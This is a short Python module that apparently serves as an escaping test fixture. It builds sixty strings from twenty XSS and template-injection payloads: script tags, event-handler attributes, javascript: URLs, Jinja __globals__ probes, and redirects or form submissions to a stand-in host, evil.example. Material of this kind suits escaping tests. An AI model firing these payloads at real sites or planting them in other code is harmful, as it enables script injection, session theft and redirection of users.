"""Sixty texts that become code where they are not escaped."""

from __future__ import annotations

from itertools import islice, product

MARK = "window.pwned=1"
_BARE = (
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<body onload={MARK}>",
    f"<iframe src='javascript:parent.{MARK}'></iframe>",
    f"<a href='javascript:{MARK}'>x</a>",
    f"<details open ontoggle={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<math><mi xlink:href='data:x,<script>{MARK}</script>'>",
    f"<style>@import 'javascript:{MARK}'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example/'><button>x</button></form>",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__mro__ %}{% endfor %}",
    f"${{{MARK}}}",
    f"javascript:{MARK}",
    f"`{MARK}`",
)
_BEFORE = ("", '">', "'>")
PAYLOADS = tuple(islice((before + each for before, each in product(_BEFORE, _BARE)), 60))
